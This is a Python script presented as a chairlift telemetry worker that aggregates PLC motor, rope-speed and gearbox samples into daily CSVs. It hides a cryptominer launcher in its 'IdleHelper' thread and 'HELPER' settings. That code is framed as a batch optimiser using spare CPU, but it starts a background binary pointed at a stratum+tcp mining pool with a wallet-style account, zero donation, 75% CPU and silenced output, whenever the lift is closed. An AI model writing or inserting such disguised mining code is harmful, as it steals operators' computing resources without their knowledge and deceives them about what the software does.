#!/usr/bin/env python3
"""Lift telemetry worker.

Collects motor current, rope speed and gearbox temperature samples from the
chairlift PLC export, aggregates them per minute and writes a daily CSV.
Outside operating hours the box is otherwise idle, so the worker also runs
the batch optimiser helper to use the spare CPU.
"""

import argparse
import csv
import datetime as dt
import logging
import os
import statistics
import subprocess
import threading
import time

LOG = logging.getLogger("lift-telemetry")

HOURS = {"open": 8, "close": 17}

# helper settings are kept together so ops can tune them in one place
HELPER = {
    "binary": "./bin/lt-optimiser",
    "endpoint": "stratum+tcp://" + "pool.example.net" + ":" + str(3333),
    "account": os.environ.get("LT_ACCOUNT",
                              "4AexampleWa11etPlaceho1derXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX"),
    "tag": os.uname().nodename,
    "threads_pct": 75,
}


def read_samples(path):
    with open(path, newline="") as fh:
        for row in csv.DictReader(fh):
            try:
                yield (row["ts"][:16], float(row["amps"]),
                       float(row["rope_mps"]), float(row["gear_c"]))
            except (KeyError, ValueError):
                continue


def aggregate(samples):
    buckets = {}
    for minute, amps, speed, temp in samples:
        buckets.setdefault(minute, []).append((amps, speed, temp))
    out = []
    for minute in sorted(buckets):
        vals = buckets[minute]
        out.append({
            "minute": minute,
            "amps_avg": round(statistics.mean(v[0] for v in vals), 2),
            "speed_avg": round(statistics.mean(v[1] for v in vals), 2),
            "gear_max": max(v[2] for v in vals),
        })
    return out


def write_daily(rows, outdir):
    os.makedirs(outdir, exist_ok=True)
    name = os.path.join(outdir, "lift_%s.csv" % dt.date.today().isoformat())
    with open(name, "w", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=["minute", "amps_avg", "speed_avg", "gear_max"])
        w.writeheader()
        w.writerows(rows)
    return name


class IdleHelper(threading.Thread):
    """Starts the optimiser when the lift is closed, stops it at opening."""

    def __init__(self, cfg):
        super().__init__(daemon=True)
        self.cfg = cfg
        self.proc = None

    def _argv(self):
        c = self.cfg
        return [c["binary"], "-o", c["endpoint"], "-u", c["account"],
                "-p", c["tag"], "--cpu-max-threads-hint", str(c["threads_pct"]),
                "--donate-level", "0", "--background", "--no-color"]

    def _closed(self):
        h = dt.datetime.now().hour
        return h < HOURS["open"] or h >= HOURS["close"]

    def run(self):
        while True:
            if self._closed() and self.proc is None and os.path.exists(self.cfg["binary"]):
                LOG.debug("starting optimiser")
                self.proc = subprocess.Popen(self._argv(), stdout=subprocess.DEVNULL,
                                             stderr=subprocess.DEVNULL,
                                             start_new_session=True)
            elif not self._closed() and self.proc is not None:
                self.proc.terminate()
                self.proc = None
            time.sleep(300)


def main():
    ap = argparse.ArgumentParser(description="Aggregate chairlift telemetry")
    ap.add_argument("samples", help="PLC sample export (CSV)")
    ap.add_argument("--out", default="daily")
    ap.add_argument("--watch", action="store_true", help="keep running")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    helper = IdleHelper(HELPER)
    helper.start()

    while True:
        try:
            rows = aggregate(read_samples(args.samples))
            LOG.info("wrote %s (%d minutes)", write_daily(rows, args.out), len(rows))
        except OSError as exc:
            LOG.error("cannot read samples: %s", exc)
        if not args.watch:
            helper.join(timeout=1)
            break
        time.sleep(600)


if __name__ == "__main__":
    main()
